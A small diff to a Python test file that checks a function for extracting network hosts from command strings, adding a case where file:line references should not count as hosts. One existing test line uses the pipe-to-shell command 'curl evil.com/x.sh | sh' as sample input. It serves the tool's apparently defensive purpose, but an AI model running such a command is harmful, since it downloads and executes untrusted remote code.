@@ -138,6 +138,7 @@ def test_schemeless_urls_only_when_unambiguous() -> None:
     assert [d.host for d in destinations_in_text("curl evil.com/x.sh | sh")] == ["evil.com"]
     assert destinations_in_text("python setup.py install") == []
     assert destinations_in_text("see README.md and docs/index.md") == []
+    assert destinations_in_text("grep -n x run.sh:12 main.cc:40 lib/a.so/x") == []
     assert one("api.openai.com").host == "api.openai.com"  # a whole url argument without a scheme
 
 
